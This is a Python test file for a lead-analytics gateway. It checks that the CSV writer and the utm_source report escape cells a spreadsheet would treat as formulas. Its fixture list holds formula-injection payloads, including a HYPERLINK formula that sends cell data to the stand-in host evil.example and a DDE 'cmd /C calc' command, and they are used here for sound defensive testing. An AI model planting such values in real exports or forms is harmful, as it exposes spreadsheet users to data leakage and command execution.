"""Every CSV export writes a client's text as text: no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import asyncio
import csv
import io
from datetime import UTC, datetime

from gateway.cli.report import report
from gateway.cli.safe_csv import SafeWriter
from gateway.settings import parse_config
from gateway.store.facts import Fact, Kind
from gateway.store.sql.analytics import fold
from gateway.store.sql.engine import make_engine
from gateway.store.sql.migrate import migrate
from gateway.usecases.analytics.reports import Period

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "-2+3+cmd",
    "\tx",
    "\rx",
]


def test_a_cell_that_starts_like_a_formula_is_written_as_text_and_numbers_stay():
    out = io.StringIO()
    SafeWriter(out).writerow([*HOSTILE, "+79131234567", "-1500", "3.5", 42, "анна"])
    cells = next(csv.reader(io.StringIO(out.getvalue())))
    assert cells[: len(HOSTILE)] == ["'" + value for value in HOSTILE]
    assert cells[len(HOSTILE) :] == ["+79131234567", "-1500", "3.5", "42", "анна"]


def test_the_reports_csv_neutralises_utm_tags_from_a_public_form(tmp_path, redis_url):
    config = parse_config({"redis_url": redis_url, "tenants": {"salon": {"timezone": "Europe/Moscow"}}}, {})
    at = datetime(2026, 11, 5, 12, 0, tzinfo=UTC)

    async def run() -> str:
        engine = make_engine(f"sqlite+aiosqlite:///{tmp_path / 'store.db'}")
        await migrate(engine)
        facts = [
            Fact(f"lead:{n}", Kind.LEAD, "salon", at, f"salon:forms:{n}", "forms", utm_source=source)
            for n, source in enumerate(HOSTILE)
        ]
        await fold(engine, facts)
        out = io.StringIO()
        period = Period.parse("2026-11-01", "2026-11-30", at.date())
        await report(engine, "salon", config.tenants["salon"], period, "utm_source", "csv", out)
        await engine.dispose()
        return out.getvalue()

    rows = list(csv.DictReader(io.StringIO(asyncio.run(run()))))
    keys = {row["key"] for row in rows}
    assert keys == {"'" + value for value in HOSTILE} | {"итого"}
    assert all(row["leads"] == "1" for row in rows if row["key"] != "итого")
